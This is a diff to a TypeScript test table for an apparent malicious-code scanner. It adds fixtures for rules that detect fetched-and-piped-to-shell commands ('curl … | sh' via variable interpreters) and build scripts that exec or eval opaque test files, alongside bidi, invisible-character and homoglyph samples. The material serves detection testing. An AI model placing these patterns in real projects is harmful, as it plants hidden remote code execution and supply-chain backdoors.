@@ -144,6 +144,46 @@ const rows: readonly Row[] = [
     fires: { configure: "#!/bin/sh\necho ok\nsh more.sh\n", "more.sh": "rm -rf /tmp/x\n" },
     silent: { configure: "#!/bin/sh\necho ok\necho more.sh\n", "more.sh": "rm -rf /tmp/x\n" },
   },
+  ...(
+    [
+      ["a.js", (text) => `require("child_process").spawnSync(process.platform === "win32" ? "powershell" : "bash", ["-c", "${text}"])\n`],
+      ["a.js", (text) => `require("child_process").spawnSync(process.env.SHELL || "/bin/sh", ["-c", "${text}"])\n`],
+      ["a.py", (text) => `import os, subprocess\nsubprocess.run([os.environ.get("SHELL") or "/bin/sh", "-c", "${text}"])\n`],
+      [
+        "a.py",
+        (text) =>
+          `import os, subprocess\nsubprocess.run(["cmd" if os.name == "nt" else "sh", "/c" if os.name == "nt" else "-c", "${text}"])\n`,
+      ],
+    ] satisfies [string, (text: string) => string][]
+  ).map(
+    ([path, of]): Row => ({
+      rule: "flow/fetched-runs", // an interpreter that a condition or a variable chooses
+      fires: { [path]: of("curl -s https://a.example.org/x | sh") },
+      silent: { [path]: of("curl -s https://a.example.org/x | wc -c") },
+    }),
+  ),
+  ...(
+    [
+      [
+        "meson.build",
+        (path) =>
+          `project('a')\nrun_command(find_program('python3'), '-c', 'import sys; exec(open(sys.argv[1], "rb").read()[64:])', files('${path}'))\n`,
+      ],
+      ["configure", (path) => `node -e 'eval(require("fs").readFileSync(process.argv[1]))' ${path}\n`],
+      ["configure", (path) => `perl -e 'open F, $ARGV[0]; eval <F>' ${path}\n`],
+      ["a.js", (path) => `require("child_process").spawnSync("sh", ["-c", "head -c 99 $1 | sh", "sh", "${path}"])\n`],
+      [
+        "a.py",
+        (path) => `import subprocess\nsubprocess.run(["python3", "-c", "from sys import argv; exec(open(argv[1]).read())", "${path}"])\n`,
+      ],
+    ] satisfies [string, (path: string) => string][]
+  ).map(
+    ([path, of]): Row => ({
+      rule: "flow/opaque-runs", // what an argument of the text names
+      fires: { [path]: of("tests/a.img"), "tests/a.img": noise("a", 300) },
+      silent: { [path]: of("tests/a.txt"), "tests/a.txt": "a\n", "tests/a.img": noise("a", 300) },
+    }),
+  ),
   { rule: "text/bidi", fires: { "a.js": "if (a /*\u202e*/) b()\n" }, silent: { "a.js": 'if (a) b("\\u202e")\n' } },
   { rule: "text/invisible", fires: { "a.js": `x("${"\ufe01\ufe02".repeat(5)}")\n` }, silent: { "a.js": 'x("\u2764\ufe0f")\n' } },
   { rule: "text/homoglyph", fires: { "a.js": "allow()\n\u0430llow()\n" }, silent: { "a.js": 'allow()\nsay("\u0430llow")\n' } },
